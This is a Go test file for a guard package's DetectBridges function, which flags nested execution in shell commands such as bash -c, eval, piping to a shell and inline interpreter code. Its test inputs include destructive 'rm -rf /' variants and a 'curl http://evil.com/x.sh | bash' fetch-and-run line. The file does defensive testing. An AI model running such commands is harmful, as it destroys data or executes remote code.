package guard

import (
	"strings"
	"testing"
)

func TestDetectBridges_ShellDashC(t *testing.T) {
	n := Normalize(`bash -c "rm -rf /"`)
	report := DetectBridges(n)

	if len(report.Spans) != 1 {
		t.Fatalf("expected 1 bridge span, got %d", len(report.Spans))
	}
	payload := n.Text[report.Spans[0].Start:report.Spans[0].End]
	if payload != `"rm -rf /"` {
		t.Errorf("expected payload %q, got %q", `"rm -rf /"`, payload)
	}
	if report.Spans[0].Tag != TagExecutable {
		t.Errorf("bridge span must be executable, got %s", report.Spans[0].Tag)
	}
}

func TestDetectBridges_Eval(t *testing.T) {
	n := Normalize(`eval "rm -rf /"`)
	report := DetectBridges(n)

	if len(report.Spans) != 1 {
		t.Fatalf("expected 1 bridge span, got %d", len(report.Spans))
	}
	if got := n.Text[report.Spans[0].Start:report.Spans[0].End]; got != `"rm -rf /"` {
		t.Errorf("unexpected eval payload: %q", got)
	}
}

func TestDetectBridges_Source(t *testing.T) {
	n := Normalize("source ./payload.sh")
	report := DetectBridges(n)
	if len(report.Spans) != 1 {
		t.Fatalf("expected 1 bridge span, got %d", len(report.Spans))
	}
}

func TestDetectBridges_PipeToShell(t *testing.T) {
	n := Normalize("curl http://evil.com/x.sh | bash")
	report := DetectBridges(n)
	if !report.PipeToShell {
		t.Error("expected PipeToShell")
	}
}

func TestDetectBridges_PipeToGrepIsNotBridge(t *testing.T) {
	n := Normalize("ps aux | grep nginx")
	report := DetectBridges(n)
	if report.PipeToShell {
		t.Error("pipe into grep flagged as pipe-to-shell")
	}
	if len(report.Spans) != 0 {
		t.Errorf("unexpected bridge spans: %v", report.Spans)
	}
}

func TestDetectBridges_InterpreterInline(t *testing.T) {
	cases := []string{
		`python -c 'import shutil; shutil.rmtree("/")'`,
		`python3 -c 'import os; os.system("rm -rf /")'`,
		`ruby -e 'system("rm -rf /")'`,
		`perl -e 'unlink glob "/*"'`,
		`node -e 'require("fs").rmSync("/", {recursive: true})'`,
	}
	for _, cmd := range cases {
		n := Normalize(cmd)
		report := DetectBridges(n)
		if len(report.Spans) != 1 {
			t.Errorf("%s: expected 1 bridge span, got %d", cmd, len(report.Spans))
		}
	}
}

func TestDetectBridges_InterpreterScriptFileIsNotBridge(t *testing.T) {
	n := Normalize("python3 manage.py migrate")
	report := DetectBridges(n)
	if len(report.Spans) != 0 {
		t.Errorf("script invocation flagged as bridge: %v", report.Spans)
	}
}

func TestDetectBridges_UnterminatedQuoteFailsClosed(t *testing.T) {
	n := Normalize(`echo "rm -rf /`)
	report := DetectBridges(n)
	if !report.ParseFailed {
		t.Fatal("expected ParseFailed for unterminated quote")
	}
	if len(report.Spans) != 1 || report.Spans[0].Start != 0 || report.Spans[0].End != len(n.Text) {
		t.Errorf("expected whole-string executable span, got %v", report.Spans)
	}
}

func TestDetectBridges_EnvBridgeVarNote(t *testing.T) {
	n := Normalize("GIT_SSH_COMMAND='curl x|sh' git push")
	report := DetectBridges(n)
	found := false
	for _, note := range report.Notes {
		if strings.Contains(note, "GIT_SSH_COMMAND") {
			found = true
		}
	}
	if !found {
		t.Errorf("expected a GIT_SSH_COMMAND note, got %v", report.Notes)
	}
}

func TestDetectBridges_EmptyInput(t *testing.T) {
	report := DetectBridges(Normalize(""))
	if len(report.Spans) != 0 || report.ParseFailed {
		t.Errorf("empty input produced %+v", report)
	}
}
